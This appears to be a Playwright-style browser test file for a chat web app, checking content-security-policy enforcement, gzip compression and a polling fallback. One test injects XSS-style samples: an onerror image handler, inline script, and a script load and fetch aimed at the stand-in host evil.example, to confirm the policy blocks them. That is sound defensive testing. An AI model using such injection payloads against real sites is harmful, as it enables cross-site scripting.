"""Content security policy, compression and the polling fallback in a real browser."""

from tests.browser.person import Person
from tests.browser.world import World

_RECORD_VIOLATIONS = """
window.violations = JSON.parse(sessionStorage.violations ?? "[]");
document.addEventListener("securitypolicyviolation", (event) => {
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
    sessionStorage.violations = JSON.stringify(window.violations);
});
"""
_INJECT = """
const image = document.createElement("div");
image.innerHTML = '<img src="data:," onerror="window.ran = true">';
document.body.append(image);
const script = document.createElement("script");
script.textContent = "window.ran = true";
document.body.append(script);
const foreign = document.createElement("script");
foreign.src = "https://evil.example/x.js";
document.body.append(foreign);
const frame = document.createElement("iframe");
frame.src = "/privacy";
document.body.append(frame);
fetch("https://evil.example/").catch(() => 0);
"""

_DISABLE_WEBSOCKETS = """
window.WebSocket = class {
    constructor() { setTimeout(() => this.onerror?.(new Event("error"))); }
    close() {}
};
"""


async def _violations(person: Person) -> list[str]:
    violations: list[str] = await person.page.evaluate("window.violations")
    return violations


async def test_pages_cause_no_content_security_policy_violation(world: World, room: str) -> None:
    ann = await world.person("Ann")
    await ann.page.add_init_script(_RECORD_VIOLATIONS)
    await ann.open_path("/login?next=/privacy")
    await ann.button(ann.words.suggest).click()
    await ann.submit_login(ann.nickname)
    await ann.expect_path("/privacy")
    assert await _violations(ann) == []
    await ann.open_path("/")
    await ann.open_room(room)
    await ann.expect_connected()
    await ann.post_messages("is anybody there?", "a line\nand https://chat.example/ to look at")
    await ann.open_invitation()
    await ann.close_dialog()
    assert await _violations(ann) == []
    await ann.leave_room()
    for path in ("/nowhere", "/r/nowhere", "/api/v1/docs", "/privacy", "/"):
        ann.ignored_errors = "Failed to load resource"  # two of them do not exist
        await ann.open_path(path)
        assert await _violations(ann) == []


async def test_injected_scripts_are_blocked_by_the_content_security_policy(world: World) -> None:
    ann = await world.visitor("Ann")
    ann.ignored_errors = "Content Security Policy|evil.example"
    await ann.page.evaluate(_RECORD_VIOLATIONS)
    await ann.page.evaluate(_INJECT)
    expected = {"script-src-attr", "script-src-elem", "frame-src", "connect-src"}

    async def are_blocked() -> bool:
        return {line.split()[0] for line in await _violations(ann)} >= expected

    await ann.expect_eventually(are_blocked, True)
    assert await ann.page.evaluate("window.ran") is None


async def test_pages_are_compressed(world: World) -> None:
    ann = await world.person("Ann")
    response = await ann.page.goto(f"{ann.home}/login")
    assert response
    assert (await response.all_headers())["content-encoding"] == "gzip"


async def test_page_falls_back_to_polling_without_websockets(world: World, room: str) -> None:
    ann = await world.person("Ann")
    await ann.page.add_init_script(_DISABLE_WEBSOCKETS)
    await ann.sign_in()
    await ann.open_room(room)
    await ann.post_messages("is anybody there?")
    assert await ann.page.evaluate("window.socket.io.engine.transport.name") == "polling"
